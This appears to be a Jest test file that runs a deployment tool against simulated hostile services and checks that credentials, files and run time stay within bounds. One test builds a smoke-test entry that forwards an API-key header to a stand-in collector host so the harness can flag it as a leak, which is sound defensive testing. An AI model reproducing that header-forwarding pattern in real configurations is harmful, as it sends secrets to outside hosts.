import { afterAll, describe, expect, test } from '@jest/globals';
import { answer, redirect } from '../../simulators/hostile/bytes.ts';
import { COLLECTOR } from '../../simulators/hostile/collector.ts';
import { PROBE } from '../../simulators/hostile/service-answers.ts';
import { hostileService } from '../../simulators/hostile/service-program.ts';
import { openTally } from './hostile-behaviours.ts';
import { playAgainst } from './hostile-run.ts';
import { H } from './hostile-secrets.ts';
import { yaml } from './secret-inventory.ts';

/** Much more than a group takes, on a machine that does something else too. */
const LONGEST_MS = 1_800_000;

const tally = openTally('service', hostileService);
afterAll(tally.print);

describe('no credential goes beyond its owner, no file beyond the workspace, and every run ends in time', () => {
  test.each(tally.groups)(
    'whatever a hostile service does: %s',
    async (_, behaviours) => {
      expect(await tally.play(behaviours)).toEqual([]);
    },
    LONGEST_MS,
  );

  test('a run that breaks these promises is noticed', async () => {
    // What nobody should write: a header of the service, sent to another host.
    const smokeTests = [
      { [`GET https://${COLLECTOR}/x`]: { headers: { 'x-api-key': H.header.value } } },
      { 'GET /probe': { 'retry-for': '0s' } },
    ];
    const found = await playAgainst('service', {
      ...{ name: 'none', group: 'none', on: PROBE, act: () => answer(500), ends: 'deployed', says: /never said/ },
      inputs: { 'smoke-tests': yaml(smokeTests) },
    });
    expect(found).toEqual(
      expect.arrayContaining([
        'ended rolled-back, not deployed',
        'v1 serves',
        'does not say /never said/',
        `shows header for a hostile service (as it is) in GET ${COLLECTOR}/x`,
      ]),
    );
  });

  test('a behaviour that never comes about is noticed', async () => {
    const idle = { name: 'none', group: 'none', on: /^nothing$/, act: () => redirect('/'), ends: 'deployed' } as const;
    expect(await playAgainst('service', idle)).toEqual(['the behaviour never came about']);
  });
});
